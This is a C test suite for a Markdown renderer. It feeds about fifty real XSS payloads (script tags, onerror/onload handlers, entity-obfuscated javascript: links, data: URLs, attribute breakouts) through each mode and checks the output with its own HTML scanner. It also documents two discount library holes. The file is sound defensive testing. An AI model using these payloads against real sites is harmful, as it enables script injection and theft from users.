/*
** test_md.c: the Markdown renderer against real XSS payloads and against
** ordinary Markdown.
**
** Every payload is rendered in the three modes (trusted, untrusted without
** images, untrusted with images) and the output is read back by an
** independent HTML tag/attribute scanner (written here, not shared with
** md.c) that asserts: no tag outside the known set, no event-handler
** attribute, no dangerous URL scheme in any attribute once character
** references are decoded, and no <img> when images are off.
*/
#include "check.h"
#include "md.h"

#include <ctype.h>
#include <stdlib.h>
#include <string.h>

#include <mkdio.h>

enum { TRUSTED, UNTRUSTED, UNTRUSTED_IMAGES };

/* Render src in mode; returns a malloc'd string (caller frees) and stores
** the renderer's return code in *rc. */
static char *render(int mode, const char *src, int *rc)
{
    buf b = BUF_INIT;
    if (mode == TRUSTED)
        *rc = md_render_trusted(&b, src, strlen(src));
    else
        *rc = md_render_untrusted(&b, src, strlen(src), mode == UNTRUSTED_IMAGES);
    char *s = buf_detach(&b);
    return s ? s : calloc(1, 1);
}

/* Decode the character references a browser would in an attribute value,
** drop whitespace and control characters (browsers strip or ignore them in
** URL schemes) and lower-case the result, into dst (cap bytes). */
static void decode_value(const char *v, size_t n, char *dst, size_t cap)
{
    static const struct { const char *name; char c; } named[] = {
        {"amp", '&'}, {"lt", '<'}, {"gt", '>'}, {"quot", '"'}, {"apos", '\''},
        {"colon", ':'}, {"tab", '\t'}, {"newline", '\n'}, {"sol", '/'},
    };
    size_t o = 0;
    for (size_t i = 0; i < n && o + 1 < cap;) {
        long c = (unsigned char)v[i];
        if (c == '&' && i + 1 < n && v[i + 1] == '#') {
            size_t j = i + 2;
            int hex = j < n && (v[j] == 'x' || v[j] == 'X');
            if (hex)
                j++;
            long cp = 0;
            size_t start = j;
            while (j < n && (hex ? isxdigit((unsigned char)v[j]) : isdigit((unsigned char)v[j]))) {
                cp = cp * (hex ? 16 : 10) + (isdigit((unsigned char)v[j]) ? v[j] - '0' : (tolower((unsigned char)v[j]) - 'a' + 10));
                if (cp > 0x10FFFF)
                    cp = 0x10FFFF;
                j++;
            }
            if (j > start) {
                if (j < n && v[j] == ';')
                    j++;
                c = cp;
                i = j;
            } else {
                i++;
            }
        } else if (c == '&') {
            size_t k;
            int found = 0;
            for (k = 0; k < sizeof named / sizeof named[0]; k++) {
                size_t l = strlen(named[k].name);
                if (i + 1 + l <= n && strncasecmp(v + i + 1, named[k].name, l) == 0) {
                    c = named[k].c;
                    i += 1 + l;
                    if (i < n && v[i] == ';')
                        i++;
                    found = 1;
                    break;
                }
            }
            if (!found)
                i++;
        } else {
            i++;
        }
        if (c <= 0x20 || c == 0x7f)
            continue;
        dst[o++] = (char)(c < 0x80 ? tolower((int)c) : '?');
    }
    dst[o] = '\0';
}

/* Scan html the way a browser tokenizer would (tags, attribute names,
** quoted or unquoted values) and return a description of the first unsafe
** thing found, or NULL. images: whether <img> may appear at all. */
static const char *unsafe(const char *html, int images)
{
    static const char *allowed[] = {
        "a", "img", "code", "ol", "li", "p", "th", "td", "br", "hr", "h1", "h2",
        "h3", "h4", "h5", "h6", "em", "strong", "del", "sup", "pre", "blockquote",
        "ul", "dl", "dt", "dd", "table", "thead", "tbody", "tr",
    };
    static char why[200];
    char lower[4096];
    size_t n = strlen(html);
    for (size_t i = 0; i < n; i++) {
        lower[0] = '\0';
        if (strncasecmp(html + i, "<script", 7) == 0)
            return "contains <script";
        if (html[i] != '<')
            continue;
        size_t j = i + 1;
        if (j < n && html[j] == '/')
            j++;
        if (j >= n || !isalpha((unsigned char)html[j])) {
            snprintf(why, sizeof why, "stray '<' at %zu", i);
            return why;
        }
        size_t name = j;
        while (j < n && !isspace((unsigned char)html[j]) && html[j] != '>' && html[j] != '/')
            j++;
        int ok = 0;
        for (size_t k = 0; k < sizeof allowed / sizeof allowed[0]; k++)
            if (strlen(allowed[k]) == j - name && strncasecmp(allowed[k], html + name, j - name) == 0)
                ok = 1;
        if (!ok) {
            snprintf(why, sizeof why, "tag <%.*s>", (int)(j - name), html + name);
            return why;
        }
        if (!images && j - name == 3 && strncasecmp(html + name, "img", 3) == 0)
            return "<img> while images are off";
        for (;;) {
            while (j < n && (isspace((unsigned char)html[j]) || html[j] == '/'))
                j++;
            if (j >= n || html[j] == '>')
                break;
            size_t an = j;
            while (j < n && !isspace((unsigned char)html[j]) && html[j] != '=' && html[j] != '>')
                j++;
            size_t alen = j - an;
            if (alen >= 2 && tolower((unsigned char)html[an]) == 'o' &&
                tolower((unsigned char)html[an + 1]) == 'n')
                return "event handler attribute";
            if (alen == 5 && strncasecmp(html + an, "style", 5) == 0) {
                /* only the table/paragraph alignment discount writes */
                if (strncmp(html + j, "=\"text-align:", 13) != 0)
                    return "style attribute";
            }
            if (j < n && html[j] == '=') {
                j++;
                size_t vs, ve;
                if (j < n && (html[j] == '"' || html[j] == '\'')) {
                    char q = html[j++];
                    vs = j;
                    while (j < n && html[j] != q)
                        j++;
                    ve = j;
                    if (j < n)
                        j++;
                } else {
                    vs = j;
                    while (j < n && !isspace((unsigned char)html[j]) && html[j] != '>')
                        j++;
                    ve = j;
                }
                decode_value(html + vs, ve - vs, lower, sizeof lower);
                if (strstr(lower, "javascript:") || strstr(lower, "vbscript:") ||
                    strncmp(lower, "data:", 5) == 0 || strstr(lower, "<script"))
                    return "dangerous attribute value";
            }
        }
        i = j;
    }
    return NULL;
}

/* The payloads every mode must neutralise. */
static const char *const PAYLOADS[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">raw</a>",
    "<a href=javascript:alert(1)>raw</a>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<!-- <script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "![x](http://evil/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://ok.example/x.png\" onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](https://ok.example/x.png)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<http://x.example/\" onmouseover=\"alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)\n",
    "[x]\n\n[x]: javascript:alert(1)\n",
    "![x][r]\n\n[r]: javascript:alert(1)\n",
    "[x](/a \"t\\\" onmouseover=\\\"alert(1))",
    "[x](/a \"t\" onmouseover=\"alert(1)\")",
    "[x](https://ok.example 'a' onclick='b')",
    "```\"><script>alert(1)</script>\ncode\n```\n",
    "```js onload=alert(1)\nx\n```\n",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~\n",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>\n",
    "[x](id:foo) [y](class:bar) [z](raw:<script>alert(1)</script>)",
    "[a](abbr:\" onmouseover=alert(1) x=\")",
    "% title <script>\n% author\n% date\n\nbody",
    ">%\" onmouseover=\"alert(1)%\n> quoted\n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](https://ok.example/\"onmouseover=\"alert(1))",
    "<mailto:a@b.example?\"onmouseover=\"alert(1)>",
    "javascript:alert(1) http://ok.example/<script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] done\n",
    "=<script>=\n    def\n",
    "[^1]\n\n[^1]: javascript:alert(1)\n",
};

/* The scanner itself catches what it is meant to catch. */
static void test_scanner(void)
{
    CHECK(unsafe("<p>fine <a href=\"/x\" title=\"on x\">x</a></p>", 0) == NULL);
    CHECK(unsafe("<SCRIPT>x", 1) != NULL);
    CHECK(unsafe("<img src=x onerror=alert(1)>", 1) != NULL);
    CHECK(unsafe("<img src=\"https://x/y.png\" />", 0) != NULL);
    CHECK(unsafe("<a href=\"java&#x09;script:alert(1)\">x</a>", 1) != NULL);
    CHECK(unsafe("<a href=\" JaVa&Tab;Script&colon;x\">x</a>", 1) != NULL);
    CHECK(unsafe("<a href=data:text/html,x>x</a>", 1) != NULL);
    CHECK(unsafe("<iframe src=\"/x\">", 1) != NULL);
    CHECK(unsafe("<p style=\"color:red\">", 1) != NULL);
    CHECK(unsafe("a < b", 1) != NULL);
}

/* Every payload, every mode: the scanner finds nothing unsafe. */
static void test_payloads_all_modes(void)
{
    for (size_t i = 0; i < sizeof PAYLOADS / sizeof PAYLOADS[0]; i++) {
        for (int mode = TRUSTED; mode <= UNTRUSTED_IMAGES; mode++) {
            int rc;
            char *html = render(mode, PAYLOADS[i], &rc);
            const char *why = unsafe(html, mode != UNTRUSTED);
            CHECK(rc == 0);
            if (why)
                fprintf(stderr, "payload %zu mode %d: %s\n  in: %s\n  out: %s\n", i, mode,
                        why, PAYLOADS[i], html);
            CHECK(why == NULL);
            free(html);
        }
    }
}

/* Specific outcomes for the named payloads. */
static void test_payload_details(void)
{
    int rc;
    char *h;

    h = render(UNTRUSTED, "<script>alert(1)</script>", &rc);
    CHECK_CONTAINS(h, "&lt;script>alert(1)&lt;/script>");
    free(h);

    h = render(UNTRUSTED, "[x](javascript:alert(1))", &rc);
    CHECK(strstr(h, "<a") == NULL);
    free(h);

    h = render(UNTRUSTED_IMAGES, "![x](javascript:alert(1))", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);

    h = render(UNTRUSTED_IMAGES, "![x](http://evil/x.png)", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);

    h = render(TRUSTED, "![x](http://evil/x.png)", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);

    /* https images: allowed when asked for, never otherwise */
    h = render(UNTRUSTED_IMAGES, "![cat](https://img.example/cat.png)", &rc);
    CHECK_CONTAINS(h, "<img src=\"https://img.example/cat.png\" alt=\"cat\" />");
    CHECK(strstr(h, "rel=") == NULL);
    free(h);
    h = render(UNTRUSTED, "![cat](https://img.example/cat.png)", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);

    /* relative images: trusted only */
    h = render(TRUSTED, "![map](/static/map.png)", &rc);
    CHECK_CONTAINS(h, "<img src=\"/static/map.png\" alt=\"map\" />");
    free(h);
    h = render(UNTRUSTED_IMAGES, "![map](/static/map.png)", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);
    h = render(TRUSTED, "![map](//evil.example/map.png)", &rc);
    CHECK(strstr(h, "<img") == NULL);
    free(h);

    /* the fenced-code info string never reaches an attribute */
    h = render(UNTRUSTED, "```\"><script>alert(1)</script>\ncode <b>\n```\n", &rc);
    CHECK_CONTAINS(h, "<pre><code>code &lt;b&gt;\n</code></pre>");
    CHECK(strstr(h, "class=") == NULL);
    free(h);
    h = render(TRUSTED, "```js onload=alert(1)\nx\n```\n", &rc);
    CHECK(strstr(h, "class=") == NULL);
    free(h);

    /* the title cannot break out of its attribute */
    h = render(UNTRUSTED, "[x](/a \"t\\\" onmouseover=\\\"alert(1))", &rc);
    CHECK_CONTAINS(h, "href=\"/a%20%22t%22%20onmouseover=%22alert(1\"");
    CHECK(strstr(h, "\" onmouseover") == NULL);
    free(h);

    /* entities in the source stay entities */
    h = render(UNTRUSTED, "&lt;b&gt; &amp; x", &rc);
    CHECK_CONTAINS(h, "&lt;b&gt; &amp; x");
    free(h);

    /* data: links are never linked */
    h = render(TRUSTED, "[x](data:text/html;base64,PHNjcmlwdD4=)", &rc);
    CHECK(strstr(h, "href") == NULL);
    free(h);

    /* other schemes discount lets through lose their href */
    h = render(UNTRUSTED, "[f](ftp://files.example/x)", &rc);
    CHECK(strstr(h, "href=\"ftp") == NULL);
    free(h);

    /* raw HTML tags are shown, not obeyed */
    h = render(TRUSTED, "<a href=\"https://x.example\">raw</a>", &rc);
    CHECK(strstr(h, ">raw</a>") == NULL);
    CHECK_CONTAINS(h, "&lt;a href=");
    free(h);
}

/* Links in user content carry rel; staff links do not. */
static void test_rel(void)
{
    int rc;
    char *h = render(UNTRUSTED, "[home](https://example.org/) and <https://auto.example/x>", &rc);
    CHECK(rc == 0);
    CHECK_CONTAINS(h, "<a href=\"https://example.org/\" rel=\"nofollow ugc noopener\">home</a>");
    CHECK_CONTAINS(h, "<a href=\"https://auto.example/x\" rel=\"nofollow ugc noopener\">");
    free(h);

    h = render(UNTRUSTED, "write to <someone@example.org>", &rc);
    CHECK_CONTAINS(h, "rel=\"nofollow ugc noopener\"");
    CHECK_CONTAINS(h, "<a href=\"");
    free(h);

    h = render(TRUSTED, "[home](https://example.org/)", &rc);
    CHECK_STR(h, "<p><a href=\"https://example.org/\">home</a></p>");
    free(h);

    h = render(UNTRUSTED, "[rel](notes/page.html) [q](?a=1&b=2) [f](#top)", &rc);
    CHECK_CONTAINS(h, "href=\"notes/page.html\"");
    CHECK_CONTAINS(h, "href=\"?a=1&amp;b=2\"");
    CHECK_CONTAINS(h, "href=\"#top\"");
    free(h);
}

/* Ordinary Markdown renders as expected in trusted mode. */
static void test_normal_markdown(void)
{
    const char *src =
        "## Getting started\n"
        "\n"
        "Some *emphasis*, **strong** text and `code`.\n"
        "\n"
        "- one\n"
        "- two\n"
        "\n"
        "1. first\n"
        "2. second\n"
        "\n"
        "> a quote\n"
        "\n"
        "A [link](https://example.org/page \"Title\").\n"
        "\n"
        "```python\n"
        "if a < b:\n"
        "    print(\"x\")\n"
        "```\n"
        "\n"
        "| Phase | Weeks |\n"
        "|:------|:-----:|\n"
        "| Vision | 1 |\n"
        "\n"
        "It's \"quoted\" -- and done...\n";
    int rc;
    char *h = render(TRUSTED, src, &rc);
    CHECK(rc == 0);
    CHECK_CONTAINS(h, "<h2>Getting started</h2>");
    CHECK_CONTAINS(h, "<em>emphasis</em>");
    CHECK_CONTAINS(h, "<strong>strong</strong>");
    CHECK_CONTAINS(h, "<code>code</code>");
    CHECK_CONTAINS(h, "<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
    CHECK_CONTAINS(h, "<ol>\n<li>first</li>");
    CHECK_CONTAINS(h, "<blockquote>");
    CHECK_CONTAINS(h, "<a href=\"https://example.org/page\" title=\"Title\">link</a>");
    CHECK_CONTAINS(h, "<pre><code class=\"language-python\">if a &lt; b:\n    print(&quot;x&quot;)\n</code></pre>");
    CHECK_CONTAINS(h, "<table>");
    CHECK_CONTAINS(h, "<th style=\"text-align:left;\">");
    CHECK_CONTAINS(h, "<td style=\"text-align:center;\">");
    CHECK_CONTAINS(h, "&rsquo;");      /* smartypants on */
    CHECK_CONTAINS(h, "&ldquo;quoted&rdquo;");
    CHECK_CONTAINS(h, "&hellip;");
    CHECK(unsafe(h, 1) == NULL);
    free(h);

    /* the same in user content, with rel on the link */
    h = render(UNTRUSTED, src, &rc);
    CHECK(rc == 0);
    /* a heading in a post stays out of the page's outline */
    CHECK_CONTAINS(h, "<p class=\"md-heading\">Getting started</p>");
    CHECK(strstr(h, "<h2") == NULL);
    CHECK_CONTAINS(h, "rel=\"nofollow ugc noopener\"");
    CHECK_CONTAINS(h, "class=\"language-python\"");
    free(h);

    for (int level = 1; level <= 6; level++) {
        char md[32];
        snprintf(md, sizeof md, "%.*s Title\n\ntext\n", level, "######");
        h = render(UNTRUSTED, md, &rc);
        CHECK(rc == 0);
        CHECK_CONTAINS(h, "<p class=\"md-heading\">Title</p>");
        CHECK(strstr(h, "<h") == NULL);
        free(h);
    }

    /* footnotes are off: no footnote section */
    h = render(TRUSTED, "text[^1]\n\n[^1]: note\n", &rc);
    CHECK(strstr(h, "footnote") == NULL);
    free(h);
}

/* Edge inputs: empty, NUL bytes, appending to a buffer, a full buffer. */
static void test_edges(void)
{
    buf b = BUF_INIT;
    CHECK(md_render_untrusted(&b, "", 0, 0) == 0);
    CHECK(b.len == 0);

    const char nul[] = "a\0<script>b";
    CHECK(md_render_untrusted(&b, nul, sizeof nul - 1, 0) == 0);
    CHECK(strstr(buf_str(&b), "<script") == NULL);
    CHECK(memchr(b.data, '\0', b.len) == NULL);

    buf_reset(&b);
    buf_puts(&b, "X");
    CHECK(md_render_trusted(&b, "*y*", 3) == 0);
    CHECK_STR(buf_str(&b), "X<p><em>y</em></p>");
    buf_free(&b);

    buf small;
    buf_init(&small, 8);
    CHECK(md_render_trusted(&small, "a long paragraph of text", 24) == -1);
    buf_free(&small);

    /* discount 2.2.7 leaks on this =term= definition list; must not here */
    buf_init(&b, 0);
    CHECK(md_render_untrusted(&b, "=.=\n\t", 5, 0) == 0);
    CHECK_CONTAINS(buf_str(&b), "=.=");
    buf_free(&b);

    /* repeated renders share discount's state without trouble */
    for (int i = 0; i < 50; i++) {
        buf_init(&b, 0);
        CHECK(md_render_untrusted(&b, "# t\n\n```c\nx\n```\n", 16, i & 1) == 0);
        buf_free(&b);
    }
}

/* discount as Debian builds it, with no callbacks and the safe flags: what
** it writes for a fence's language and an image URL. */
static char *discount_raw(const char *src)
{
    mkd_flag_t f = (mkd_flag_t)(MKD_NOHTML | MKD_SAFELINK | MKD_FENCEDCODE);
    MMIOT *doc = mkd_string(src, (int)strlen(src), f);
    char *html = NULL, *copy = NULL;
    if (doc && mkd_compile(doc, f)) {
        int n = mkd_document(doc, &html);
        if (n >= 0 && (copy = malloc((size_t)n + 1))) {
            memcpy(copy, html ? html : "", (size_t)n);
            copy[n] = '\0';
        }
    }
    mkd_cleanup(doc);
    return copy ? copy : calloc(1, 1);
}

/* The two holes md.h names: discount writes a fenced block's language and
** an image's URL raw even with MKD_SAFELINK. Shown on the installed
** discount (when a later one closes them, the first checks say so and the
** rest still hold), then the same input through md_render_untrusted in
** both image modes: nothing executable, no <img> without images. */
static void test_discount_holes(void)
{
    static const char *const fence = "```\"><script>alert(1)</script>\ncode\n```\n";
    static const char *const image = "![x](javascript:alert(1))\n";
    static const char *const image_attr = "![x](https://img.example/a.png\"onerror=\"alert(1))\n";
    char *raw = discount_raw(fence);
    if (!strstr(raw, "<script>"))
        fprintf(stderr, "note: this discount escapes a fence's language itself\n");
    free(raw);
    raw = discount_raw(image);
    if (!strstr(raw, "src=\"javascript:"))
        fprintf(stderr, "note: this discount refuses javascript: image URLs itself\n");
    free(raw);
    const char *const inputs[] = {fence, image, image_attr};
    for (size_t i = 0; i < sizeof inputs / sizeof inputs[0]; i++)
        for (int mode = UNTRUSTED; mode <= UNTRUSTED_IMAGES; mode++) {
            int rc;
            char *h = render(mode, inputs[i], &rc);
            CHECK(rc == 0);
            CHECK(unsafe(h, mode == UNTRUSTED_IMAGES) == NULL);
            CHECK(strstr(h, "<script") == NULL);
            CHECK(strstr(h, "src=\"javascript") == NULL && strstr(h, "href=\"javascript") == NULL);
            if (mode == UNTRUSTED)
                CHECK(strstr(h, "<img") == NULL);
            free(h);
        }
    /* the fence's text stays, escaped, without a class */
    int rc;
    char *h = render(UNTRUSTED, fence, &rc);
    CHECK_CONTAINS(h, "<pre><code>code\n</code></pre>");
    free(h);
    /* an https image whose URL tries to close its attribute: the quotes
    ** stay inside the URL, percent-encoded */
    h = render(UNTRUSTED_IMAGES, image_attr, &rc);
    CHECK_CONTAINS(h, "<img src=\"https://img.example/a.png%22onerror=%22alert(1\" alt=\"x\" />");
    free(h);
}

int main(void)
{
    test_scanner();
    test_payloads_all_modes();
    test_payload_details();
    test_rel();
    test_normal_markdown();
    test_edges();
    test_discount_holes();
    return check_done();
}
